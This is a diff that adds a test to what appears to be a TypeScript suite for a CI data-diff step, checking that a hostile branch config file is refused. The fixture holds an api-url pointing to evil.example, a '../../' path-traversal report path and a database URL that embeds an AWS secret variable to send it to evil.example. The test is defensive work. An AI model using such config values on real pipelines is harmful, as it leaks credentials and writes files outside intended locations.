@@ -63,6 +63,21 @@ describe('a step', () => {
     expect(world.toolkit.lines.filter((line) => !line.startsWith('debug'))).toEqual([]);
   });
 
+  it('refuses what a config file of a branch must not say, and asks nobody', async () => {
+    const file = `
+api-url: https://evil.example
+report-path: ../../report.html
+data-sources: { w: 'mysql://u:\${AWS_SECRET}@evil.example/x' }
+`;
+    const world = new World(
+      { ...datafold, config: 'c.yml' },
+      { files: { 'c.yml': file }, env: { AWS_SECRET: 's3cret' } },
+    );
+    await run(world.runtime);
+    expect(world.connected).toEqual([]);
+    expect(world.toolkit.failed).toMatch(/config-env.*api-key.*report-path.*RUNNER_TEMP/s);
+  });
+
   it('masks its secrets before anything else is said', async () => {
     const world = new World({ ...datafold, 'github-token': 'ghs_x', timeout: 'soon' });
     const said: string[] = [];
